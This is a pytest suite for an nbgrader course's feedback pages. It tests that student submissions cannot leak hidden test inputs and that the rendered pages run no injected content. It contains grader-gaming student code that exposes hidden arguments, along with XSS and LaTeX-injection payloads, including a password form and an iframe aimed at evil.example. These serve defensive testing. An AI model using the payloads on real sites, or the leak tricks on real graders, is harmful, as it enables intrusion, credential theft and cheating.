"""Feedback pages: the student's work, points and messages, and nothing of a hidden test, whatever the student's code does to get it."""

import base64
import contextlib
import re
import shutil

import nbformat
import pytest
from browser import chromium, violations
from bs4 import BeautifulSoup
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
from nbgrader.server_extensions.formgrader import handlers
from tiny_course import ASSIGNMENT, CANARIES, REPOSITORY, SOLUTIONS, answer, exercise, graded_notebook, hand_in, metadata, nbgrader
from traitlets.config.loader import PyFileConfigLoader

from grading.common.cells import error_of
from grading.give_back.formulas import ATTRIBUTES, ELEMENTS
from grading.give_back.shown import for_the_student, names_of_mistakes
from grading.run.execute import execute

pytestmark = pytest.mark.xdist_group("feedback pages")  # made once for all

PAGES = ("right", "mistaken", "broken", "scripted", "formulas")

# Every way a student's code has to show what a hidden test called it with.
KEEP = "kept = []\ndef keep(*values):\n    kept.extend(values)\n"
LEAKS = {
    "prints_it_when_called": {"area": "def area(r):\n    print(r)\n    import sys; print(r, file=sys.stderr)\n    return 3.0 * r**2"},
    "raises_it_when_called": {"area": "def area(r):\n    if r != 2.0:\n        raise ValueError(str(r))\n    return 12.0"},
    "raises_it_as_a_name": {
        "area": "def area(r):\n    if r != 2.0:\n        raise NameError(f'name {r!r} is not defined')\n    return 12.0"
    },
    "fails_as_a_check_would": {
        "area": "class CheckFailed(AssertionError):\n    pass\n\ndef area(r):\n    if r != 2.0:\n        raise CheckFailed(f'area: {r}')\n"
        "    return 12.0"
    },
    "prints_it_in_a_later_cell": {
        "area": KEEP + "def area(r):\n    keep(r)\n    return 3.0 * r**2",
        "slope": SOLUTIONS["slope"] + "\nprint(kept)\nkept",
    },
    "raises_it_in_a_later_cell": {
        "area": KEEP + "def area(r):\n    keep(r)\n    return 3.0 * r**2",
        "slope": SOLUTIONS["slope"] + "\nraise ValueError(str(kept))",
    },
    "returns_it_to_a_later_visible_check": {
        "area": KEEP + "def area(r):\n    keep(r)\n    return 3.0 * r**2",
        "slope": "def slope(x):\n    return kept[-1]",
    },
    "raises_it_in_a_later_visible_check": {
        "area": KEEP + "def area(r):\n    keep(r)\n    return 3.0 * r**2",
        "slope": "def slope(x):\n    raise ValueError(str(kept))",
    },
    "writes_it_to_a_file_for_later": {
        "area": "def area(r):\n    open('/tmp/kept', 'a').write(f'{r} ')\n    return 3.0 * r**2",
        "slope": SOLUTIONS["slope"] + "\nprint(open('/tmp/kept').read())",
    },
    "calls_its_function_what_it_got": {
        "area": "def area(r):\n    area.__name__ = area.seen = 'f' + str(r).replace('.', '_')\n    return 0.0"
    },
}

SCRIPTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<svg onload=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<style>.panel-heading{display:none}</style>",
    '<form action="http://evil.example"><input name="password"></form>',
)


FORMULA_ATTACKS = (
    r"\text{<img src=x onerror=alert(1)>}",
    r"\text{&lt;script&gt;alert(1)&lt;/script&gt;}",
    r"\unicode{x3c}img src=x onerror=alert(1)\unicode{x3e}",
    r"\href{javascript:alert(1)}{x}",
    r"\style{position:fixed;background:url(//evil.example)}{x}",
    r'\textcolor{red" onmouseover="alert(1)}{x}',
    r'\hspace{1em" onmouseover="alert(1)}',
    r"\operatorname{</math><script>alert(1)</script>}",
    r"\def\a{xxxxxxxxxx}\def\b{\a\a\a\a\a\a\a\a\a}\def\c{\b\b\b\b\b\b\b\b\b}\def\d{\c\c\c\c\c\c\c\c\c}\def\e{\d\d\d\d\d\d\d\d\d}\e\e\e\e",
    "{" * 10_000 + "}" * 10_000,
    "{" * 490 + "x" + "}" * 490,
    "{" * 300,
    r"}\right)\end{matrix}",
    "x" * 900 + "^x" * 2,
)
WIDE = (
    "$$" + " + ".join(f"x_{{{i}}}" for i in range(60)) + "$$",
    "$" + " + ".join(f"x_{{{i}}}" for i in range(60)) + "$",
    "|" + " wide |" * 40 + "\n|" + "---|" * 40 + "\n|" + " cell |" * 40,
    "`" + "long_" * 60 + "`",
    "```\n" + "=" * 300 + "\n```",
    "https://example.org/" + "path" * 60,
)


def page_of(course, student):
    return (course / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()


def text_of(course, student):
    return BeautifulSoup(page_of(course, student), "html.parser").body.get_text()


@pytest.fixture(scope="module")
def feedback(generated_course, tmp_path_factory):
    """Return a course with graded submissions and their feedback pages, by way of nbgrader's own commands."""
    course = shutil.copytree(generated_course, tmp_path_factory.mktemp("feedback") / "course")
    for name, answers in LEAKS.items():
        hand_in(course, name, answer(exercise(course), **{**SOLUTIONS, "why": "Because.", **answers}))
    hand_in(course, "right", answer(exercise(course), **SOLUTIONS, why="Because."))
    mistake = {"area": "def area(r):\n    return 3.0 * r", "slope": "def slope(x):\n    return x", "outer": "def outer(a, b)\n    return a"}
    hand_in(course, "mistaken", answer(exercise(course), **mistake))
    helped = {
        "area": "from my_helper import triple\ndef area(r):\n    return triple(r)",
        "slope": SOLUTIONS["slope"] + "\nprint('An output after a hidden test: the page needs a second run.')",
        "outer": SOLUTIONS["outer"],
    }
    folder = hand_in(course, "helped", answer(exercise(course), **helped))
    (folder / "my_helper.py").write_text("def triple(r):\n    return 3.0 * r\n")
    hand_in(course, "broken", b"{")
    scripted = answer(exercise(course), **SOLUTIONS, why="\n\n".join(SCRIPTS) + "\n\n$a < b$ and `x < y`")
    bundles = [{"text/html": text, "text/plain": "plain"} for text in SCRIPTS]
    bundles += [{"application/javascript": "alert(1)", "image/svg+xml": "<svg onload=alert(1)>", "text/latex": "<script>"}]
    bundles += [{"image/png": '"><script>alert(1)</script>', "text/plain": "x"}]
    shows = f"for bundle in {bundles!r}:\n    display(bundle, metadata={{'image/png': {{'width': '1 onload=alert(1)'}}}}, raw=True)\n"
    shows += f"print({''.join(SCRIPTS)!r}, '\\x1b]0;title\\x07\\x1b[31mred')"
    svg = {"x.svg": {"image/svg+xml": base64.b64encode(b"<svg/>").decode()}}
    scripted.cells[2:2] = [new_markdown_cell("\n\n".join(SCRIPTS), attachments=svg), new_code_cell(shows)]
    hand_in(course, "scripted", scripted)
    formulas = answer(exercise(course), **SOLUTIONS, why=r"Since $\frac{\partial L}{\partial w} < \mathbf{v}$ and $$\sum_i w_i \qquad a$$")
    formulas.cells[2:2] = [new_markdown_cell(f"${tex}$") for tex in FORMULA_ATTACKS]
    # An attribute that is opened in a piece of HTML, so that the formula's place is inside it.
    formulas.cells[2:2] = [
        new_markdown_cell(f'<div title="\n\n${FORMULA_ATTACKS[0]}$ $x$\n\n" onclick="alert(1)">'),
        *map(new_markdown_cell, WIDE),
    ]
    formulas.cells[2:2] = [new_code_cell(f"print('{'wide ' * 100}', '{'w' * 500}')  # {'comment ' * 50}")]
    hand_in(course, "formulas", formulas)
    nbgrader(course, "autograde", ASSIGNMENT)
    nbgrader(course, "generate_feedback", ASSIGNMENT)
    return course


@pytest.fixture(scope="module")
def browser():
    with chromium() as started:
        yield started


@contextlib.contextmanager
def opened(browser, course, student, width=390, scheme="light"):
    """Yield a student's page in a browser, and what it asked for and said while it loaded."""
    path = course / "feedback" / student / ASSIGNMENT / f"{ASSIGNMENT}.html"
    context = browser.new_context(viewport={"width": width, "height": 800}, color_scheme=scheme)
    page, heard = context.new_page(), []
    page.on("request", lambda request: heard.append(request.url))
    page.on("dialog", lambda dialog: (heard.append(dialog.message), dialog.dismiss()))
    page.on("console", lambda message: heard.append(message.text))
    page.goto(path.as_uri())
    yield page, heard
    context.close()


@pytest.mark.parametrize("name", LEAKS)
def test_no_canary_leaks(feedback, name):
    text = page_of(feedback, name)
    for canary in CANARIES:
        assert canary not in text
        assert canary.replace(".", "_") not in text


@pytest.mark.parametrize("name", LEAKS)
def test_payload_leaks_without_the_guards(feedback, name):
    """In a single run, with hidden tests that call the function without the words of checks.py, each payload shows."""
    notebook = graded_notebook(feedback, name)
    for cell in notebook.cells:
        if "check_hidden(area" in cell.source:
            # The judge forwards no special names, so what stands in __name__ is asked for under another name.
            cell.source = "area(7.8125)\ngetattr(area, 'seen', '')"
    done = execute(notebook, {"checks.py": (feedback / "solutions" / ASSIGNMENT / "checks.py").read_bytes()})
    text = str([cell.outputs for cell in done.cells if cell.cell_type == "code"])
    assert "7.8125" in text or "7_8125" in text


def test_messages_and_points_are_there(feedback):
    page = text_of(feedback, "mistaken")
    assert "You forgot the square." in page
    assert "Read again: Chapter 1, Circles." in page
    assert "expected 3" in page  # what a visible check expects is no secret
    assert "0 of 5 points" in " ".join(page.split())
    assert "def area(r):" in page
    assert "SyntaxError" in page


def test_messages_are_about_the_answer_where_it_uses_a_module_of_ones_own(feedback):
    """The second run, whose messages the page shows, finds the student's other files as the first did."""
    page = text_of(feedback, "helped")
    assert "You forgot the square." in page
    assert "ModuleNotFoundError" not in page


NAMES = """from checks import check_hidden, known_mistakes
def wrong(r, factor=2, part=slice(None)):
    return area(r) / factor
known_mistakes({"You forgot the square.": lambda r: 3.0 * r, "You halved it.": wrong})
"""


@pytest.mark.parametrize(
    ("more", "used"),
    [
        ("", True),
        ("check_hidden(area, 7.8125, expected=1.0)", False),
        ("area(7.8125)", False),
        ("kept = area", False),
        ("def make(f):\n    return lambda r: f(r)\nknown_mistakes({'': make(wrong)})", True),
        ("def make(f):\n    area(7.8125)\n    return wrong\nknown_mistakes({'': make(wrong)})", False),
        ("def make(f):\n    return area(7.8125)\nknown_mistakes({'': make(wrong)})", False),
        ("def other(r, got=area(7.8125)):\n    pass", False),
        ("def other(r: area(7.8125)):\n    pass", False),
        ("@area(7.8125)\ndef other(r):\n    pass", False),
        ("known_mistakes({area(7.8125): wrong})", False),
        ("known_mistakes({'': area @ 7.8125})", False),
        ("known_mistakes({'': lambda r, got=area[7.8125]: r})", False),
        ("known_mistakes(area(7.8125))", False),
        ("class Other(area(7.8125)):\n    pass", False),
        ("for area in", False),
    ],
)
def test_names_of_mistakes_come_into_the_second_run_without_a_hidden_input(more, used):
    """What names mistakes runs again where no hidden test may: it must hand nothing to the student's code when it is reached."""
    source = f"### BEGIN HIDDEN TESTS\n{NAMES}{more}\n### END HIDDEN TESTS\ncheck(area, 2.0, expected=12.0)"
    assert names_of_mistakes(source).strip() == (f"{NAMES}{more}".strip() if used else "")


def test_every_test_of_the_course_keeps_its_names_in_the_second_run():
    cells = [cell for path in REPOSITORY.glob("solutions/*/*.ipynb") for cell in nbformat.read(path, as_version=4).cells]
    naming = [cell for cell in cells if cell.cell_type == "code" and "known_mistakes(" in cell.source]
    assert len(naming) > 50
    assert not [cell.id for cell in naming if not names_of_mistakes(cell.source)]


def test_second_run_names_the_mistake_of_this_task_and_of_no_other():
    """The page's message comes from the second run as soon as something failed after a test with hidden checks."""
    double = 'from checks import known_mistakes\nknown_mistakes({"You doubled it.": lambda r: 2.0 * r})\n'
    hidden = f"### BEGIN HIDDEN TESTS\n{double}### END HIDDEN TESTS\n"
    cells = [new_code_cell("from checks import check", metadata=metadata("setup", locked=True))]
    cells.append(new_code_cell("def double(r):\n    return 2.0 * r"))
    for name, names in (("first", hidden), ("second", hidden), ("third", "")):
        source = f"{names}check(double, 2.0, expected=12.0)"
        cells.append(new_code_cell(source, metadata=metadata(f"test_{name}", points=1, grade=True, locked=True)))
    files = {"checks.py": (REPOSITORY / "grading" / "checks.py").read_bytes()}
    done = execute(new_notebook(cells=cells), files)
    names = [names_of_mistakes(cell.source) for cell in done.cells]
    for cell in done.cells:
        cell.source = cell.source.replace(hidden, "")
    for_the_student(done, files, names=names)
    assert ["You doubled it." in error_of(cell).evalue for cell in done.cells[2:]] == [True, True, False]


def test_released_tests_are_shown(feedback):
    page = text_of(feedback, "right")
    assert "check(slope, 1.5, expected=3.0)" in page
    assert "check_hidden" not in page.replace("from checks import call, check, check_hidden, compare", "")
    assert "4 of 5 points so far; 1 more waits for a person" in " ".join(page.split())


def test_reason_of_a_refusal_is_shown(feedback):
    page = text_of(feedback, "broken")
    assert "tiny.ipynb could not be read: it is not valid JSON and seems to be cut off" in page
    assert "Comments:" in page


def test_nothing_in_a_page_runs(feedback):
    page = BeautifulSoup(page_of(feedback, "scripted"), "html.parser")
    body = page.body
    assert not body.find_all(["script", "iframe", "svg", "style", "form", "input", "object", "embed"])
    for tag in body.find_all(True):
        assert not [name for name in tag.attrs if name.lower().startswith("on")]
        for name in ("href", "src", "action"):
            assert not str(tag.get(name, "")).strip().lower().startswith(("javascript:", "data:text", "data:image/svg", "//"))
    text = body.get_text(" ")
    assert "<script>alert(1)</script>" in text  # what was printed is shown, as text
    assert "\x1b" not in str(page)
    assert "a < b" in text
    assert "x < y" in text


def test_formgraders_page_runs_nothing_either(feedback):
    """Formgrader renders the graded notebook with the same settings and another template."""
    with contextlib.chdir(feedback):
        config = PyFileConfigLoader("nbgrader_config.py", path=str(feedback)).load_config()
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    path = feedback / "autograded" / "scripted" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    names = ("assignment_id", "notebook_id", "submission_id", "base_url", "student", "last_name", "first_name", "notebook_path")
    resources = dict.fromkeys(names, "x") | {"index": 1, "total": 1}
    html, _ = HTMLExporter(config=config).from_filename(str(path), resources=resources)
    cells = BeautifulSoup(html, "html.parser").select("#notebook-container")[0]
    assert not cells.find_all(["script", "iframe", "svg", "style", "form"])
    assert not [tag for tag in cells.find_all(True) if any(name.lower().startswith("on") for name in tag.attrs)]


def test_list_at_the_top_names_each_task_with_its_points_and_message(feedback):
    """What went wrong is read without scrolling; a mark is a word too, for those who see no colour."""
    rows = BeautifulSoup(page_of(feedback, "mistaken"), "html.parser").select("header ol.tasks > li")
    said = [" ".join(row.get_text(" ").split()) for row in rows]
    assert said[0] == "✗ no points: area is 6, expected 12. You forgot the square. 0 of 1"
    assert re.fullmatch(r"✗ no points: slope is 1\.5, expected 3\. 0 of 2", said[1])
    assert said[2] == "✗ no points: outer NameError: name 'outer' is not defined 0 of 1"
    assert said[3] == "✗ no points: Why No response. 0 of 1"
    page = BeautifulSoup(page_of(feedback, "right"), "html.parser")
    said = [" ".join(row.get_text(" ").split()) for row in page.select("header ol.tasks > li")]
    assert said[:3] == ["✓ all points: area 1 of 1", "✓ all points: slope 2 of 2", "✓ all points: outer 1 of 1"]
    assert said[3] == "… waits for a person: Why 1 point, not graded yet"
    assert all(page.find(id=link["href"][1:]) for link in page.select("header ol.tasks a"))


def test_reason_of_a_refusal_is_told_once_at_the_top(feedback):
    top = BeautifulSoup(page_of(feedback, "broken"), "html.parser").select_one("header").get_text(" ")
    assert top.count("tiny.ipynb could not be read") == 1


def test_formulas_are_mathml(feedback):
    answer = BeautifulSoup(page_of(feedback, "formulas"), "html.parser").find(id="why")
    assert answer.select("math mfrac mi")
    assert len(answer.select("span.formula > math[display=block]")) == 2, "what \\qquad keeps apart can stand below each other"
    assert "$" not in answer.get_text()
    assert "frac" not in answer.get_text()


def test_a_formula_can_bring_nothing_else_into_the_page(feedback):
    page = BeautifulSoup(page_of(feedback, "formulas"), "html.parser")
    inside = page.select("math, math *")
    assert len(page.select("math")) > len(FORMULA_ATTACKS) / 2
    assert {tag.name for tag in inside} <= ELEMENTS
    assert {name for tag in inside for name in tag.attrs} <= ATTRIBUTES
    assert not page.body.find_all(["script", "iframe", "svg", "style", "img"])
    assert not [tag for tag in page.body.find_all(True) if any(name.startswith("on") or name == "style" for name in tag.attrs)]
    assert not page.select("[href^=javascript]")
    assert len(page_of(feedback, "formulas")) < 300_000, "macros are not expanded"


@pytest.mark.parametrize("student", PAGES)
def test_page_asks_for_nothing_and_runs_nothing(feedback, browser, student):
    """Nothing leaves the page, on a train or at midnight: no script, no font, no style, no picture of another host."""
    page = BeautifulSoup(page_of(feedback, student), "html.parser")
    assert not page.find_all(["script", "link", "base"])
    assert not re.search(r"url\(|@import", "".join(style.string for style in page.find_all("style")))
    with opened(browser, feedback, student) as (shown, heard):
        assert heard == [shown.url]


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("student", PAGES)
def test_page_fits_a_phone_and_can_be_read_by_all(feedback, browser, student, scheme):
    with opened(browser, feedback, student, scheme=scheme) as (page, _):
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        cut = "[...document.querySelectorAll('pre')].filter((pre) => pre.scrollWidth > pre.clientWidth + 1).length"
        assert page.evaluate(cut) == 0, "a long line goes on below"
        background = page.evaluate("getComputedStyle(document.body).backgroundColor")
        assert (max(map(int, re.findall(r"\d+", background))) < 60) == (scheme == "dark")
        assert not violations(page)


@pytest.mark.parametrize(
    ("arguments", "kept"),
    [
        ('{"Wrong.": lambda x: x}, model=double, probes=[[np.array([1.0, -2.0])], some_arrays(1, (2, 3))], results=("a", "b")', True),
        ('{"Wrong.": {"factor": 1.0}}, model=lambda x, factor=2.0: factor * x, probes=[[k, -k] for k in range(3)]', True),
        ('{"Wrong.": lambda x: x}, probes=[[double(3.0)]]', False),
        ('{"Wrong.": double(3.0)}', False),
        ('{"Wrong.": lambda x: x}, model=double(3.0)', False),
    ],
)
def test_only_regions_that_call_nothing_of_the_students_name_mistakes_on_the_page(arguments, kept):
    source = (
        f"### BEGIN HIDDEN TESTS\nfrom checks import known_mistakes, some_arrays\n\nknown_mistakes({arguments})\n### END HIDDEN TESTS\n"
    )
    assert bool(names_of_mistakes(source)) == kept
